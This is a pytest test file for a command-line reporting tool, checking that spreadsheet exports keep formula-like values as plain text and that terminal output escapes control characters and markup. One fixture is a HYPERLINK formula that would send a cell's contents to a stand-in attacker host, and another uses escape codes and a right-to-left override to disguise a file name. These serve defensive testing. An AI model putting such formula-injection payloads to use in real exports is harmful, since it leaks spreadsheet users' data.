"""Data never acts in an export or on a terminal: formulas stay text, control characters are escaped."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from duban.cli.main import app
from duban.engine.overview.sheets_out import append_row, looks_like_formula, safe_cell
from duban.engine.store.db import make_engine

FIXTURES = Path(__file__).parent.parent / "fixtures"
runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点此")'
NOISY = "坏\x1b[31m名\x07[red]字[/red]\u202eexe.pdf"


def duban(db: Path, *args: str):  # type: ignore[no-untyped-def]
    return runner.invoke(app, ["--db", f"sqlite:///{db}", *args], env={"COLUMNS": "300"})


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "x.db"
    assert duban(path, "init").exit_code == 0
    assert duban(path, "units", "import", str(FIXTURES / "tree.csv")).exit_code == 0
    # Names already stored (an older import, a direct edit): output must cope whatever input allows.
    engine = make_engine(f"sqlite:///{path}")
    with engine.begin() as conn:
        conn.exec_driver_sql("UPDATE unit SET name = ? WHERE code = 'K01'", (FORMULA,))
        conn.exec_driver_sql("UPDATE unit SET name = ? WHERE code = 'K02'", (NOISY,))
    engine.dispose()
    return path


def names_in(book_bytes: bytes) -> dict[str, object]:
    sheet = load_workbook(BytesIO(book_bytes)).worksheets[0]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    return {code: cell for code, cell in cells.items()}


def test_report_xlsx_writes_formulas_as_text_and_survives_control_characters(
    db: Path, tmp_path: Path
) -> None:
    out = tmp_path / "r.xlsx"
    result = duban(db, "report", "C01", "--xlsx", str(out))
    assert result.exit_code == 0, result.output
    cells = names_in(out.read_bytes())
    assert cells["K01"].data_type == "s" and cells["K01"].value == FORMULA
    assert cells["K01"].quotePrefix
    assert cells["K02"].value == NOISY.replace("\x1b", "\ufffd").replace("\x07", "\ufffd")


def test_cli_tables_escape_terminal_controls_and_markup(db: Path) -> None:
    result = duban(db, "report", "C01")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output and "\u202e" not in result.output
    assert "\\x1b" in result.output and "\\u202e" in result.output
    assert "[red]" in result.output


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", " =1"])
def test_every_formula_start_is_text(text: str) -> None:
    book = Workbook()
    sheet = book.active
    append_row(sheet, [text, 5, None])
    buffer = BytesIO()
    book.save(buffer)
    cell = load_workbook(BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s" and cell.value == text and cell.quotePrefix
    assert safe_cell(sheet, 5) == 5 and safe_cell(sheet, None) is None


def test_a_carriage_return_start_is_a_formula_start() -> None:
    assert looks_like_formula("\r=1") and looks_like_formula("  +1") and not looks_like_formula("1-2")


def test_plain_text_stays_plain() -> None:
    book = Workbook()
    cell = safe_cell(book.active, "华达电子有限公司工会")
    assert cell.value == "华达电子有限公司工会" and not cell.quotePrefix
